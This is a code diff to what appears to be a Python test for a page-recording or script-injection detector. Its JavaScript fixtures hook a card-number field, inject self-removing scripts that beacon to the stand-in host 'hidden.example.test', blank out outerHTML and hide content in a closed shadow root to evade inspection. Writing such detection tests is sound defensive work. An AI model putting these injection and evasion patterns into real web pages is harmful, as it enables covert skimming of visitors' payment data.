@@ -28,7 +28,11 @@ INLINE = "<script>document.querySelector(''[name=cc_number]'').addEventListener(
 # A published test number that stands on the page: the page is kept without it.
 CARD = "4111 1111 1111 1111"
 # Comes by the gateway's script, asks another host, and takes its own element away.
-LOADER = "(() => { document.body.id = 'in-the-end'; const s = document.createElement('script'); s.textContent = 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1'; document.body.append(s); s.remove(); })();\n"
+# Half a letter, and a page that says of itself what it likes, keep nobody from looking; what lies in a shadow is kept, too.
+LOADER = "(() => { document.body.id = 'in-the-end'; Object.defineProperty(Element.prototype, 'outerHTML', {get: () => ''}); document.body.append('\\ud83d'); " \
+    "document.body.appendChild(document.createElement('div')).attachShadow({mode: 'closed'}).textContent = 'in-the-shadow'; " \
+    "for (const text of ['\\'\\ud83d\\'; window.half = 1', 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1']) " \
+    "{ const s = document.createElement('script'); s.textContent = text; document.body.append(s); s.remove(); } })();\n"
 
 
 def main():
@@ -106,6 +110,7 @@ before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
             wait_for(f"{pair}: the page, kept when an incident opened", 180, lambda: len(kept(*pair)) >= 2)
         for view in ("de", "fr"):
             wait_for(f"the page of {view} as a browser had it", 60, lambda: 'id="in-the-end"' in kept(view, "browser")[-1])
+            need("in-the-shadow" in kept(view, "browser")[-1] and any("window.half" in one["page.text"] for one in told(view, "browser", "created", "inline")), "what hides", kept(view, "browser")[-1])
         for view, way in pairs:
             need("</html>" in kept(view, way)[0] and "sendBeacon" not in kept(view, way)[0], "the page before", kept(view, way)[0])
             need(way == "browser" or not any("in-the-end" in one for one in kept(view, way)), "as it was sent", kept(view, way))
